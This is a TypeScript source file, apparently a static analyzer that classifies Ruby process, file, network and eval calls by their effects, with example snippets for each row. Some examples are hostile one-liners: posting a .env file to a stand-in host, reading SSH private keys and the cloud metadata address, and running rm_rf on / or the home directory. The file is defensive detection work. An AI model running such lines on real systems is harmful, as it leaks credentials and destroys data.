// What Ruby's calls do: processes, files, the network, evaluation. Whatever is neither here nor
// defined in the text makes it opaque.
import { textOf, UNKNOWN } from '../../shell/word.ts'
import type { CodeReader } from '../codeCall.ts'
import type { CallRow, ScriptCall } from './call.ts'
import { scriptReader } from './read.ts'
import { sqlRow } from './sql.ts'

const words = (text: string): ReadonlyArray<string> => text.trim().split(/\s+/)

/** `system("x")`, `system("rm", "-r", "a")`, with an environment before and options after. */
const process = (call: ScriptCall): void => {
  if (call.count === 0 && call.site.name !== 'system') return
  const words = call.words()
  if (!/^(?:popen|pipeline)/.test(call.site.name)) call.command(words)
  else {
    // A second argument may be a mode; written into, a shell runs what comes.
    const command = words.filter((word) => !/^[rwa]b?\+?$/.test(word.text))
    const [only] = command
    if (command.length === 1 && words.length > 1 && only !== undefined) call.feed(only)
    else call.command(command)
  }
}

/** `open("|cmd")` runs a command; a URL is fetched where open-uri is loaded. */
const open = (call: ScriptCall): void => {
  const path = call.word(0)
  if (path === undefined) return
  if (path.text.startsWith('|')) call.feed({ ...path, text: path.text.slice(1) })
  else if (/^https?:/.test(path.text)) call.code.fetch(path)
  else if (path.is === 'dynamic' && path.text.startsWith(UNKNOWN) && call.site.name === 'open')
    call.opaque('dynamic-command')
  else mode(call)
}

const mode = (call: ScriptCall): void => {
  const path = call.word(0)
  const flags = call.site.named('mode') ?? call.word(1)
  if (path === undefined) return
  call.open(path, flags === undefined ? undefined : (textOf(flags) ?? 'w'))
}

/** `.send(:system, "x")`: a method by its name. */
const byName = (call: ScriptCall): void => {
  const name = call.text(0)
  if (name === undefined) call.opaque('dynamic-command')
  else if (!call.site.name.endsWith('method')) call.site.call(name, 1)
  else if (!call.site.isPure(name)) call.opaque('dynamic-command')
}

const require = (call: ScriptCall): void => {
  const name = call.word(0)
  const text = call.text(0)
  if (name === undefined) return
  if (text === undefined) call.opaque('dynamic-command')
  else if (/^[./~]/.test(text) || call.site.name !== 'require')
    call.code.runFile(
      { ...name, text: beside(call, /\.\w+$/.test(text) ? text : `${text}.rb`) },
      'ruby',
    )
  else if (!STANDARD.has(text.split('/')[0]!)) {
    const { directory } = call.code
    // A library of the project's own has the right of way over an installed one.
    if (directory === undefined || !/^[\w/-]{1,120}$/.test(text)) call.opaque('package-code')
    else call.code.imports([`${directory}/lib/${text}.rb`, `${directory}/${text}.rb`], 'ruby')
  }
}

/** `require_relative` starts from the file that it stands in. */
const beside = (call: ScriptCall, path: string): string => {
  const { file } = call.code
  return call.site.name === 'require_relative' && file !== undefined && !path.startsWith('/')
    ? `${file.slice(0, file.lastIndexOf('/'))}/${path}`
    : path
}

const STANDARD = new Set(
  words(
    'json yaml psych set time date csv erb digest openssl base64 securerandom fileutils tmpdir tempfile pathname find open3 open4 ' +
      'open-uri net uri socket optparse ostruct pp prettyprint shellwords stringio strscan bigdecimal benchmark timeout logger ' +
      'forwardable singleton delegate English etc io matrix prime rational observer monitor thread zlib ripper coverage abbrev ' +
      'sqlite3 pg mysql2 rexml weakref tsort objspace rbconfig racc getoptlong readline reline bundler rubygems minitest test',
  ),
)

/** `.write` of a `Pathname`, else of a file whose opening said how. */
const ofPathname =
  (role: 'read' | 'write' | 'delete' | 'deleteAll', needsNoArguments = false) =>
  (call: ScriptCall): void => {
    const path = call.site.receiver()
    if (path.is === 'literal' || path.is === 'glob') {
      if (!needsNoArguments || call.count === 0) call.take(role, path)
    } else if (role.startsWith('delete') && call.count === 0) call.take(role, path)
  }

const request = (call: ScriptCall): void => {
  const url = call.word(0)
  if (url === undefined) return
  if (/(?:post|put|patch|delete|request)/i.test(call.site.name)) call.code.send(url)
  else call.code.fetch(url)
}

const ROWS: ReadonlyArray<CallRow> = [
  sqlRow(
    '.execute .exec_query .exec_params .execute_batch',
    'require "sqlite3"; SQLite3::Database.new("a.db").execute("select 1") => net.fetch database',
  ),
  {
    names: '.result .result_with_hash',
    does: ['inline-code'],
    examples: ['ERB.new("<%= 1 %>").result => opaque inline-code'],
  },
  {
    names: 'system exec spawn',
    run: process,
    examples: [
      'system("rm a") => fs.delete a',
      'system "rm", "-r", "a" => fs.delete a',
      'x = "rm a"; system(x) => fs.delete a',
      'system({"A" => "1"}, "rm a", chdir: "/") => fs.delete a',
      'def f(c) = system(c) => opaque dynamic-command',
      'system("rm #{ARGV[0]}") => exec ruby, opaque dynamic-command, fs.delete, opaque dynamic-target',
      '`rm a` => fs.delete a',
      '%x(rm a) => fs.delete a',
      'puts "#{system("rm a")}" => fs.delete a',
    ],
  },
  {
    names:
      'IO.popen Open3.capture2 Open3.capture2e Open3.capture3 Open3.popen2 Open3.popen2e Open3.popen3 Open3.pipeline Process.spawn Process.exec PTY.spawn Kernel.system Kernel.exec Kernel.spawn',
    run: process,
    examples: ['IO.popen("rm a") => fs.delete a', 'Open3.capture3("rm", "a") => fs.delete a'],
  },
  {
    names: 'Process.kill',
    run: (call) => {
      const id = call.text(1)
      if (id === '1' || id === '-1') call.code.effect('destroy.system', { name: 'process' })
      else call.code.effect('destroy.data', { name: 'process' })
    },
    examples: ['Process.kill("TERM", 42) => destroy.data process'],
  },
  { names: 'Process.daemon fork Process.fork', does: ['spawn'], examples: ['fork { } => spawn'] },
  {
    names:
      'eval instance_eval class_eval module_eval Kernel.eval binding.eval .eval .instance_eval .class_eval .module_eval',
    run: (call) => {
      if (call.count > 0) call.take('eval', call.word(0)!)
    },
    examples: [`eval("system('rm a')") => fs.delete a`, 'eval(gets) => opaque dynamic-command'],
  },
  {
    names:
      'send public_send __send__ .send .public_send .__send__ method .method .public_method .instance_method',
    run: byName,
    examples: [
      'Kernel.send(:system, "rm a") => fs.delete a',
      'Object.new.send(x, "a") => opaque dynamic-command, opaque inline-code',
    ],
  },
  {
    names: 'require require_relative load autoload',
    run: require,
    examples: [
      'require "json" =>',
      'require_relative "lib/a" => exec ruby, opaque unread-script',
      'require "rails" => opaque project-code',
    ],
  },
  {
    names: 'open URI.open',
    run: open,
    examples: [
      'open("|rm a") => fs.delete a',
      'open("https://x.example/a").read => net.fetch x.example',
      'open("a", "w") { |f| f.puts 1 } => fs.write a',
    ],
  },
  {
    names: 'File.open File.new IO.open File.for_fd',
    run: mode,
    examples: [
      'File.open("a") => fs.read a',
      'File.open("a", "w") { |f| f.write("x") } => fs.write a',
      'File.open("a", mode: "a") => fs.write a',
    ],
  },
  {
    names:
      'File.read File.readlines File.foreach File.binread IO.read IO.readlines IO.foreach IO.binread YAML.load_file YAML.safe_load_file JSON.load_file CSV.read CSV.foreach CSV.table File.readlink',
    run: (call) => {
      const path = call.word(0)
      if (path?.text.startsWith('|') === true)
        call.code.shellText({ ...path, text: path.text.slice(1) })
      else if (path !== undefined) call.take('read', path)
    },
    examples: [
      'puts File.read("a.txt") => fs.read a.txt',
      'puts File.read(".env") => fs.read .env, secret.read .env',
      'File.read(File.join(Dir.home, ".ssh", "id_rsa")) => fs.read ~/.ssh/id_rsa, secret.read ~/.ssh/id_rsa',
      'IO.read("|rm a") => fs.delete a',
    ],
  },
  {
    names:
      'File.write IO.write File.binwrite IO.binwrite CSV.open File.truncate FileUtils.touch FileUtils.mkdir FileUtils.mkdir_p FileUtils.makedirs FileUtils.mkpath Dir.mkdir File.mkfifo',
    run: (call) => {
      if (call.site.name === 'open') mode(call)
      else if (/^(?:touch|mk|makedirs)/.test(call.site.name)) {
        for (const word of call.words()) call.take('write', word)
      } else if (call.count > 0) call.take('write', call.word(0)!)
    },
    examples: [
      'File.write("a", "x") => fs.write a',
      'FileUtils.mkdir_p(%w[a b]) => fs.write a, fs.write b',
    ],
  },
  {
    names:
      'File.delete File.unlink Dir.delete Dir.rmdir Dir.unlink FileUtils.rm FileUtils.rm_f FileUtils.remove FileUtils.rmdir FileUtils.safe_unlink',
    each: 'delete',
    examples: [
      'File.delete("a", "b") => fs.delete a, fs.delete b',
      'FileUtils.rm(Dir.glob("*.o")) => fs.delete ., fs.read .',
    ],
  },
  {
    names:
      'FileUtils.rm_rf FileUtils.rm_r FileUtils.rmtree FileUtils.remove_dir FileUtils.remove_entry FileUtils.remove_entry_secure rm_rf rm_r',
    each: 'deleteAll',
    examples: [
      'FileUtils.rm_rf("/") => fs.delete /, tamper /, destroy.system /',
      'require "fileutils"; FileUtils.rm_rf "build" => fs.delete build',
      'FileUtils.rm_rf(Dir.home) => fs.delete ~, tamper ~, destroy.data ~',
    ],
  },
  {
    names:
      'File.rename FileUtils.mv FileUtils.move File.symlink File.link FileUtils.ln FileUtils.ln_s FileUtils.ln_sf',
    run: (call) => {
      const [from, to] = [call.word(0), call.word(1)]
      if (/^(?:rename|mv|move)$/.test(call.site.name))
        for (const word of call.site.wordsOf(0)) call.take('delete', word)
      else if (from !== undefined) call.take('list', from)
      if (to !== undefined) call.take('write', to)
    },
    examples: ['File.rename("a", "b") => fs.delete a, fs.write b'],
  },
  {
    names:
      'FileUtils.cp FileUtils.cp_r FileUtils.copy FileUtils.copy_file FileUtils.copy_entry FileUtils.install IO.copy_stream',
    args: ['read', 'write'],
    examples: ['FileUtils.cp("a", "b") => fs.read a, fs.write b'],
  },
  {
    names:
      'File.chmod FileUtils.chmod FileUtils.chmod_R File.chown FileUtils.chown FileUtils.chown_R',
    run: (call) => {
      for (const word of call.words(1)) if (!/^\d*$/.test(word.text)) call.take('write', word)
    },
    examples: ['File.chmod(0644, "a") => fs.write a'],
  },
  {
    names: 'FileUtils.cd FileUtils.chdir Dir.chdir chdir',
    args: ['chdir'],
    examples: [
      'Dir.chdir("/"); File.delete("bin/ls") => fs.delete /bin/ls, destroy.system /bin/ls',
    ],
  },
  {
    names: 'Dir.glob Dir.[] Dir.entries Dir.children Dir.each_child Dir.foreach Dir.new Dir.open',
    each: 'list',
    examples: ['puts Dir.glob("*.rb") => fs.read .'],
  },
  {
    names: 'Find.find',
    each: 'list',
    examples: ['Find.find("src") { |f| puts f } => fs.read src'],
  },
  {
    names: '.write .binwrite .write_nonblock',
    run: ofPathname('write'),
    examples: ['Pathname.new("a").write("x") => fs.write a', '$stdout.write("x") =>'],
  },
  {
    names: '.read .binread .readlines .each_line',
    run: ofPathname('read', true),
    examples: ['Pathname("a").read => fs.read a'],
  },
  {
    names: '.delete .unlink .rmdir',
    run: ofPathname('delete', true),
    examples: ['Pathname("a").delete => fs.delete a', '"abc".delete("b") =>'],
  },
  {
    names: '.rmtree',
    run: ofPathname('deleteAll'),
    examples: ['Pathname.new("a").rmtree => fs.delete a'],
  },
  {
    names:
      'Net::HTTP.get Net::HTTP.get_response Net::HTTP.get_print Net::HTTP.start Net::HTTP.new URI.read HTTParty.get Faraday.get RestClient.get HTTP.get Excon.get',
    args: ['fetch'],
    examples: [
      'puts Net::HTTP.get(URI("https://x.example/a")) => net.fetch x.example',
      'Net::HTTP.get(URI.parse("http://169.254.169.254/")) => net.fetch 169.254.169.254, secret.read 169.254.169.254',
    ],
  },
  {
    names:
      'Net::HTTP.post Net::HTTP.post_form HTTParty.post HTTParty.put HTTParty.delete Faraday.post RestClient.post RestClient.put RestClient.delete HTTP.post Excon.post TCPSocket.new TCPSocket.open UDPSocket.new Socket.tcp UNIXSocket.new',
    args: ['send'],
    examples: [
      'Net::HTTP.post(URI("https://x.example"), "a") => net.send x.example',
      'Net::HTTP.post(URI("https://x.example"), File.read(".env")) => net.send x.example, fs.read .env, secret.read .env, secret.send x.example',
    ],
  },
  {
    names: '.request .post .post_form .request_post .put .patch',
    run: request,
    examples: ['http.post("https://x.example/a", "x") => opaque inline-code, net.send x.example'],
  },
  {
    names: '.get .request_get .get_response',
    run: (call) => (/^https?:/.test(call.word(0)?.text ?? '') ? request(call) : undefined),
  },
  {
    names: 'TCPServer.new TCPServer.open UNIXServer.new',
    does: ['spawn'],
    examples: ['TCPServer.new(8080) => spawn'],
  },
  {
    names:
      'Marshal.load Marshal.restore YAML.unsafe_load Object.const_get const_get .const_get instance_variable_set define_method .instance_exec .class_exec ObjectSpace.each_object trap at_exit set_trace_func Fiddle.dlopen Fiddle::Function.new syscall',
    run: (call) => {
      if (!/^(?:trap|at_exit|define_method)$/.test(call.site.name)) call.opaque()
    },
    examples: ['Marshal.load(x) => opaque inline-code', 'at_exit { puts 1 } =>'],
  },
]

const METHODS =
  'each each_with_index each_with_object each_pair each_key each_value each_slice each_cons each_char each_byte each_entry map map! flat_map ' +
  'collect select select! filter filter! filter_map reject reject! find detect find_index find_all index rindex inject reduce sum min max ' +
  'min_by max_by minmax sort sort! sort_by sort_by! group_by partition zip take take_while drop drop_while first last count size length ' +
  'uniq uniq! flatten flatten! compact compact! reverse reverse! rotate shuffle sample join push pop shift unshift append prepend concat ' +
  'insert include? member? any? all? none? one? empty? nil? key? has_key? value? has_value? keys values fetch dig merge merge! update ' +
  'transform_values transform_keys to_h to_a to_s to_i to_f to_sym to_str to_r to_c to_set to_proc to_json to_yaml to_csv inspect hash store ' +
  'delete_if delete_at keep_if clear default slice slice! except invert tally chunk_while each_entry lazy force cycle step upto downto times ' +
  'succ next pred chr ord abs ceil floor round truncate divmod fdiv modulo pow gcd lcm zero? positive? negative? even? odd? between? clamp ' +
  'upcase upcase! downcase downcase! capitalize capitalize! swapcase strip strip! lstrip rstrip chomp chomp! chop chop! squeeze squeeze! tr ' +
  'tr! tr_s gsub gsub! sub sub! scan match match? =~ split partition rpartition center ljust rjust start_with? end_with? lines bytes chars ' +
  'codepoints unpack unpack1 pack encode encode! force_encoding valid_encoding? unicode_normalize scrub b bytesize byteslice getbyte hex oct ' +
  'crypt replace freeze frozen? dup clone itself tap then yield_self is_a? kind_of? instance_of? respond_to? class superclass ancestors ' +
  'methods instance_methods instance_variables object_id equal? eql? new call curry arity puts print printf putc p << flush sync fsync ' +
  'close closed? eof? rewind gets getc readline readchar readpartial pos seek tty? isatty fileno lineno string set_encoding binmode ' +
  'year month day hour min sec usec wday yday strftime iso8601 to_date to_time to_datetime utc localtime getlocal parse captures pre_match post_match names ' +
  'named_captures message full_message backtrace cause exitstatus success? pid status body code headers header content_type host path scheme query port ' +
  'basename dirname extname exist? file? directory? children entries relative_path_from relative? absolute? parent join mtime atime ctime ' +
  'stat symlink? readable? writable? executable? zero? glob ascii_only? casecmp casecmp? hexdigest base64digest digest generate format ' +
  'add add? subset? superset? intersect? union difference intersection with_index with_object value wait kill alive? synchronize lock unlock ' +
  'on banner separator raise backtrace_locations use_ssl= open_timeout= read_timeout= body= verify_mode= each_header start finish' +
  ' set ostruct members to_enum size? grep grep_v each_index bsearch product combination permutation transpose assoc rassoc dump load loop message= ' +
  'row rows by_row accept default= exception detailed_message instance_variable_get const_defined? define_singleton_method? private public protected extend include'

const FUNCTIONS =
  'puts print p pp printf putc format sprintf gets readline readlines loop lambda proc rand srand sleep raise fail exit exit! abort warn ' +
  'catch throw Integer Float String Array Hash Rational Complex URI Pathname Set binding block_given? caller freeze attr_accessor attr_reader attr_writer ' +
  'include extend prepend private public protected module_function private_constant using refine alias_method? gsub sub chomp chop select ' +
  'at_exit Data Struct it _1 __method__ __dir__ __FILE__ __LINE__ ARGV ARGF STDIN STDOUT STDERR $stdout caller_locations global_variables local_variables tap then'

const CLASSES =
  'SQLite3::Database PG PG::Connection Mysql2::Client Sequel Math Time Date DateTime JSON YAML Psych CSV ERB Digest Digest::MD5 Digest::SHA1 Digest::SHA256 Digest::SHA512 OpenSSL::Digest OpenSSL::HMAC SecureRandom Random Set Struct ' +
  'OpenStruct Comparable Array Hash String Integer Float Regexp Range Symbol Proc Thread Mutex Queue Fiber Enumerator StringIO StringScanner ' +
  'Shellwords Base64 Benchmark Timeout Logger OptionParser Rational Complex BigDecimal Encoding GC RbConfig RUBY_VERSION ObjectSpace Zlib ' +
  'URI URI::HTTP URI::HTTPS CGI Exception StandardError ArgumentError RuntimeError TypeError NotImplementedError Data Etc Socket IPAddr ' +
  'Pathname Net::HTTP::Get Net::HTTP::Head REXML::Document Process::Status Gem::Version Matrix Vector Prime PP Ripper Errno Class Module Object Kernel BasicObject Monitor Singleton'

const pure = new Set([
  ...words(METHODS).map((name) => `.${name}`),
  ...words(FUNCTIONS),
  ...words(CLASSES).map((name) => `${name}.*`),
  ...words(
    'exist? file? directory? join basename dirname extname expand_path absolute_path realpath size zero? mtime atime ctime stat lstat readable? writable? executable? symlink? fnmatch ftype identical? split path size? world_readable?',
  ).map((name) => `File.${name}`),
  ...words('pwd home getwd exist? tmpdir mktmpdir empty?').map((name) => `Dir.${name}`),
  ...words('pid clock_gettime ppid uid euid wait wait2 waitpid detach times last_status').map(
    (name) => `Process.${name}`,
  ),
  ...words('fetch key? has_key? include?').map((name) => `ENV.${name}`),
  'Tempfile.*',
  'IO.pipe',
  'IO.select',
  'FileUtils.pwd',
  'FileUtils.compare_file',
  'FileUtils.uptodate?',
])

export const ruby: CodeReader = scriptReader({
  dialect: 'ruby',
  rows: ROWS,
  pure,
  keywords: new Set(
    words(
      'BEGIN END alias and begin break case class def defined? do else elsif end ensure false for if in module next nil not or redo rescue retry return self super then true undef unless until when while yield __FILE__ __LINE__ __method__ __dir__ new',
    ),
  ),
  transparent: new Set(
    words(
      'URI URI.parse URI.join Pathname Pathname.new String File.expand_path File.realpath File.absolute_path Shellwords.escape',
    ),
  ),
  globs: new Set(['Dir.glob', 'Dir']),
  home: new Set(['Dir.home']),
  here: new Set(['Dir.pwd', 'Dir.getwd', '__dir__']),
})

/** The table, for its own examples. */
export const RUBY_ROWS = ROWS
